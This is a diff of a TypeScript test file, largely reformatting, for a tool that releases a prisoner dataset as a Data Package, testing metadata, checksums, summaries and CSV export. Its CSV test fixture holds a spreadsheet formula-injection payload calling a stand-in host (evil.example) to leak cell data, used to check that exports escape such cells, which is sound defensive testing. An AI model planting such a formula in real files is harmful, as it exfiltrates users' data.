@@ -15,7 +15,6 @@ import { cli, fixture, ROOT, tempDir } from './helpers.js';
 const PROFILES = join(ROOT, '..', 'shared', 'vendor', 'frictionless-datapackage-2.0');
 const VERSION = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version as string;
 
-
 /** ajv (draft-07, as the profile is) with the official Data Package v2 profile. */
 function profileValidator() {
   const profile = JSON.parse(readFileSync(join(PROFILES, 'datapackage.json'), 'utf8'));
@@ -25,7 +24,13 @@ function profileValidator() {
   return ajv.compile(profile);
 }
 
-type Resource = { name: string; path: string; bytes?: number; hash?: string; schema?: { fields: Array<{ name: string }>; primaryKey?: string[] } };
+type Resource = {
+  name: string;
+  path: string;
+  bytes?: number;
+  hash?: string;
+  schema?: { fields: Array<{ name: string }>; primaryKey?: string[] };
+};
 
 let release: string;
 let datapackage: { resources: Resource[] } & Record<string, unknown>;
@@ -55,15 +60,26 @@ describe('datapackage.json', () => {
 
   it('describes the source and the release, dated by the source', () => {
     const source = JSON.parse(readFileSync(join(ROOT, 'sources', 'odf-2025-02-13-tough-year', 'source.json'), 'utf8'));
-    expect(datapackage).toMatchObject({ $schema: 'https://datapackage.org/profiles/2.0/datapackage.json', version: VERSION, created: '2025-02-13T00:00:00Z' });
+    expect(datapackage).toMatchObject({
+      $schema: 'https://datapackage.org/profiles/2.0/datapackage.json',
+      version: VERSION,
+      created: '2025-02-13T00:00:00Z',
+    });
     expect(datapackage.sources).toEqual([
-      expect.objectContaining({ title: source.title, path: source.url, publisher: source.publisher, date: source.published_on, sha256: source.files[0].sha256 }),
+      expect.objectContaining({
+        title: source.title,
+        path: source.url,
+        publisher: source.publisher,
+        date: source.published_on,
+        sha256: source.files[0].sha256,
+      }),
     ]);
     expect(datapackage.licenses).toEqual([
       { name: 'CC-BY-4.0', path: 'https://creativecommons.org/licenses/by/4.0/', title: expect.stringContaining('Attribution') },
     ]);
     const attribution = (datapackage.licenses as Array<{ title: string }>)[0]!.title;
-    for (const credit of [source.title, source.publisher, source.published_on, source.url, "remains the authors'"]) expect(attribution).toContain(credit);
+    for (const credit of [source.title, source.publisher, source.published_on, source.url, "remains the authors'"])
+      expect(attribution).toContain(credit);
     expect((datapackage.contributors as Array<{ title: string }>).map((c) => c.title)).toContain(source.publisher);
   });
 
@@ -79,21 +95,28 @@ describe('datapackage.json', () => {
     expect(datapackage.resources.filter((r) => !r.hash).map((r) => r.path)).toEqual(['SHA256SUMS']);
   });
 
-  it.each(publishedTables().map((t) => [t.name, t] as const))('%s: a Table Schema whose fields are the CSV header, with its key', (_, table) => {
-    const resource = datapackage.resources.find((r) => r.path === tableFiles(table).csv)!;
-    expect(resource.name).toBe(table.name);
-    const header = readFileSync(join(release, resource.path), 'utf8').split('\r\n')[0]!.split(',');
-    expect(resource.schema!.fields.map((f) => f.name)).toEqual(header);
-    const key = resource.schema!.primaryKey ?? (resource.schema as { uniqueKeys?: string[][] }).uniqueKeys?.[0];
-    expect(key).toEqual([...table.key]);
-  });
+  it.each(publishedTables().map((t) => [t.name, t] as const))(
+    '%s: a Table Schema whose fields are the CSV header, with its key',
+    (_, table) => {
+      const resource = datapackage.resources.find((r) => r.path === tableFiles(table).csv)!;
+      expect(resource.name).toBe(table.name);
+      const header = readFileSync(join(release, resource.path), 'utf8').split('\r\n')[0]!.split(',');
+      expect(resource.schema!.fields.map((f) => f.name)).toEqual(header);
+      const key = resource.schema!.primaryKey ?? (resource.schema as { uniqueKeys?: string[][] }).uniqueKeys?.[0];
+      expect(key).toEqual([...table.key]);
+    },
+  );
 
   it('derives foreign keys from field names (x_id -> xs.key) unless the registry declares them', () => {
     const tables = publishedTables();
     const prisoners = tables.find((t) => t.name === 'prisoners')!;
     const mentions: PublishedTable = { ...prisoners, name: 'test_mentions', key: ['id'] };
-    const schema = { properties: { id: { type: 'string' }, prisoner_id: { type: 'string' }, source_id: { type: 'string' }, tags_id: { type: 'array' } } };
-    expect(conventionalForeignKeys(mentions, schema, tables)).toEqual([{ fields: ['prisoner_id'], reference: { resource: 'prisoners', fields: ['id'] } }]);
+    const schema = {
+      properties: { id: { type: 'string' }, prisoner_id: { type: 'string' }, source_id: { type: 'string' }, tags_id: { type: 'array' } },
+    };
+    expect(conventionalForeignKeys(mentions, schema, tables)).toEqual([
+      { fields: ['prisoner_id'], reference: { resource: 'prisoners', fields: ['id'] } },
+    ]);
     const declared = { fields: ['who'], reference: { resource: 'prisoners', fields: ['id'] } };
     expect(tableSchemaOf({ ...mentions, foreignKeys: [declared] }, schema, tables, true).foreignKeys).toEqual([declared]);
     expect(tableSchemaOf(prisoners, jsonSchemaOfTable(prisoners) as never, tables, true).foreignKeys).toBeUndefined();
@@ -104,7 +127,17 @@ describe('SHA256SUMS and verify-release', () => {
   it('is what sha256sum -c checks, and verify-release finds a changed, a missing and an extra file', () => {
     expect(execFileSync('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: release, encoding: 'utf8' })).toBe('');
     const sums = readFileSync(join(release, 'SHA256SUMS'), 'utf8');
-    expect(sums.trim().split('\n').map((l) => l.slice(66)).sort()).toEqual(listFiles(release).filter((f) => f !== 'SHA256SUMS').sort());
+    expect(
+      sums
+        .trim()
+        .split('\n')
+        .map((l) => l.slice(66))
+        .sort(),
+    ).toEqual(
+      listFiles(release)
+        .filter((f) => f !== 'SHA256SUMS')
+        .sort(),
+    );
     expect(cli(['verify-release', release]).status).toBe(0);
 
     const copy = join(tempDir(), 'download');
@@ -122,7 +155,16 @@ describe('SHA256SUMS and verify-release', () => {
 });
 
 describe('CSV for spreadsheets', () => {
-  const record = { id: 'x-1', text: '=HYPERLINK("http://evil.example/?"&A1,"click")', n: -5, plus: '+7 700', at: '@SUM(A1)', tab: '\tx', cr: '\rx', ok: 'a=b' };
+  const record = {
+    id: 'x-1',
+    text: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    n: -5,
+    plus: '+7 700',
+    at: '@SUM(A1)',
+    tab: '\tx',
+    cr: '\rx',
+    ok: 'a=b',
+  };
   const columns = Object.keys(record);
 
   it('prefixes an apostrophe to cells starting with = + - @ tab or CR, and starts with a BOM', () => {
@@ -140,19 +182,36 @@ describe('CSV for spreadsheets', () => {
     expect(csv).toContain(',-5,');
   });
 
-  it.each(publishedTables().map((t) => [t.name, t] as const))('excel/%s.csv has the main CSV\'s header and rows behind a BOM', (_, table) => {
-    const files = tableFiles(table);
-    const excel = readFileSync(join(release, files.excel), 'utf8');
-    const main = readFileSync(join(release, files.csv), 'utf8');
-    expect(excel.startsWith('\uFEFF')).toBe(true);
-    expect(excel.slice(1).split('\r\n')[0]).toBe(main.split('\r\n')[0]);
-    expect(main.startsWith('\uFEFF')).toBe(false);
-  });
+  it.each(publishedTables().map((t) => [t.name, t] as const))(
+    "excel/%s.csv has the main CSV's header and rows behind a BOM",
+    (_, table) => {
+      const files = tableFiles(table);
+      const excel = readFileSync(join(release, files.excel), 'utf8');
+      const main = readFileSync(join(release, files.csv), 'utf8');
+      expect(excel.startsWith('\uFEFF')).toBe(true);
+      expect(excel.slice(1).split('\r\n')[0]).toBe(main.split('\r\n')[0]);
+      expect(main.startsWith('\uFEFF')).toBe(false);
+    },
+  );
 });
 
 describe('summary tables', () => {
-  const person = (id: string, list: string, group: string | null, months: number | null, articles: string[], convicted_on: string | null) => ({
-    id, list, group, sentence_months: months, articles, convicted_on, custody_since: null, months_custody_to_verdict: null,
+  const person = (
+    id: string,
+    list: string,
+    group: string | null,
+    months: number | null,
+    articles: string[],
+    convicted_on: string | null,
+  ) => ({
+    id,
+    list,
+    group,
+    sentence_months: months,
+    articles,
+    convicted_on,
+    custody_since: null,
+    months_custody_to_verdict: null,
   });
   const dataset = {
     prisoners: [
@@ -176,21 +235,34 @@ describe('summary tables', () => {
       { article: '272', prisoners: 3, convicted: 2, pre_trial: 1 },
       { article: '405', prisoners: 1, convicted: 1, pre_trial: 0 },
     ]);
-    expect(s.prisoners_by_verdict_year).toEqual([{ year: 2023, prisoners: 2 }, { year: null, prisoners: 2 }]);
+    expect(s.prisoners_by_verdict_year).toEqual([
+      { year: 2023, prisoners: 2 },
+      { year: null, prisoners: 2 },
+    ]);
     expect(s.sentences_by_group).toEqual([
       { list: 'convicted', group: 'G1', sentences: 2, min_months: 60, median_months: 72.5, max_months: 85 },
       { list: 'convicted', group: 'G2', sentences: 1, min_months: 30, median_months: 30, max_months: 30 },
     ]);
     // no events and no custody dates: empty, not an error
     expect([s.events_by_kind_year, s.custody_to_verdict_by_group]).toEqual([[], []]);
-    expect(s.sentences_by_article!.find((r) => r.article === '272')).toEqual({ article: '272', sentences: 2, min_months: 60, median_months: 72.5, max_months: 85 });
+    expect(s.sentences_by_article!.find((r) => r.article === '272')).toEqual({
+      article: '272',
+      sentences: 2,
+      min_months: 60,
+      median_months: 72.5,
+      max_months: 85,
+    });
   });
 
   it('add up to the whole list in the release', () => {
     const total = JSON.parse(readFileSync(join(release, 'prisoners.json'), 'utf8')).length;
-    const read = (name: string) => JSON.parse(readFileSync(join(release, 'summaries', `${name}.json`), 'utf8')) as Array<Record<string, number>>;
+    const read = (name: string) =>
+      JSON.parse(readFileSync(join(release, 'summaries', `${name}.json`), 'utf8')) as Array<Record<string, number>>;
     for (const name of ['prisoners_by_group', 'prisoners_by_verdict_year', 'prisoners_by_custody_year']) {
-      expect(read(name).reduce((sum, r) => sum + r.prisoners!, 0), name).toBe(total);
+      expect(
+        read(name).reduce((sum, r) => sum + r.prisoners!, 0),
+        name,
+      ).toBe(total);
     }
     expect(SUMMARY_NAMES.every((n) => read(n).length > 0)).toBe(true);
   });
@@ -201,7 +273,10 @@ describe('schemas/', () => {
     const r = cli(['schemas', '--check']);
     expect(r.stderr).toBe('');
     expect(r.status).toBe(0);
-    for (const table of publishedTables()) expect(readFileSync(join(ROOT, 'schemas', `${table.name}.schema.json`), 'utf8')).toBe(readFileSync(join(release, tableFiles(table).schema), 'utf8'));
+    for (const table of publishedTables())
+      expect(readFileSync(join(ROOT, 'schemas', `${table.name}.schema.json`), 'utf8')).toBe(
+        readFileSync(join(release, tableFiles(table).schema), 'utf8'),
+      );
   });
 });
 
@@ -212,7 +287,9 @@ describe('data dictionary', () => {
     expect(r.status).toBe(0);
     const text = readFileSync(join(ROOT, 'docs', 'data-dictionary.md'), 'utf8');
     for (const table of publishedTables()) expect(text).toContain(`## ${table.name}\n`);
-    expect(text).toMatch(/published under \[Creative Commons Attribution 4\.0 International\]\(https:\/\/creativecommons\.org\/licenses\/by\/4\.0\/\)/);
+    expect(text).toMatch(
+      /published under \[Creative Commons Attribution 4\.0 International\]\(https:\/\/creativecommons\.org\/licenses\/by\/4\.0\/\)/,
+    );
     expect(text).toContain("remains the authors'");
     expect(readFileSync(join(release, 'data-dictionary.md'), 'utf8')).toBe(text);
     const stale = join(tempDir(), 'dd.md');
